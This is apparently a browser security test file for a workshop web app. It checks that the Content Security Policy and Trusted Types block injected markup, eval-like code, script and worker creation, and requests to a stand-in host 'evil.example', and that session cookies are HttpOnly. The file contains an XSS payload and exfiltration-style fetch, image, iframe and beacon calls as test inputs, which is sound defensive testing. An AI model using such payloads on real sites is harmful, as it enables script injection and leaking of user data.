import { afterAll, beforeAll, expect, test } from 'vitest'
import { createDemo, letIn } from '#tests/support/story/demo.ts'
import type { ChromiumPlayer } from '#tests/support/story/player.ts'
import { seeSaved } from '#tests/support/story/saving.ts'
import { openStage, type Stage } from '#tests/support/story/stage.ts'

let stage: Stage
let player: ChromiumPlayer
beforeAll(async () => {
  stage = await openStage()
  const workshop = await createDemo(stage.server.url, 'swot')
  player = await stage.enter('Mira Solberg')
  await player.page.goto(await letIn(player, workshop, 'participant', 'Delivery'))
  await seeSaved(player)
})
afterAll(() => stage?.close())

/** What a page that was somehow made to run a stranger's line could do next; each is to end in an error. */
const attempts = [
  ['markup from text', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')],
  ['function from text', () => new Function('return 1')()],
  [
    'a script element with text',
    () => document.body.append(Object.assign(document.createElement('script'), { text: '1' })),
  ],
  ['worker from text', () => new Worker(URL.createObjectURL(new Blob(['1'])))],
  ['policy of its own', () => Object(window).trustedTypes.createPolicy('mine', {})],
] as const

test.each(attempts)('a page makes no %s', async (_, attempt) => {
  // Developer tools may do what the page may not, as long as their own call lasts.
  const answer = await player.page.evaluate(`new Promise((resolve) => setTimeout(() => {
    try { (${attempt.toString()})(); resolve('done') } catch (error) { resolve(error.name) }
  }))`)
  expect(answer).not.toBe('done')
})

test('a page sends nothing to another address, and shows nothing from there', async () => {
  const violated = await player.page.evaluate(
    () =>
      new Promise<readonly string[]>((resolve) => {
        const seen = new Set<string>()
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          seen.add(effectiveDirective)
          if (seen.size === 3) resolve([...seen].sort())
        })
        fetch('https://evil.example/').catch(() => undefined)
        document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }))
        document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
        navigator.sendBeacon('https://evil.example/')
      }),
  )
  expect(violated).toEqual(['connect-src', 'frame-src', 'img-src'])
})

test('scripts of a page can’t read who somebody is', async () => {
  const found = await player.page.evaluate(() => document.cookie)
  expect(found).toBe('')
  expect((await player.context.cookies()).map(({ httpOnly, sameSite }) => [httpOnly, sameSite])).toEqual([
    [true, 'Strict'],
  ])
})
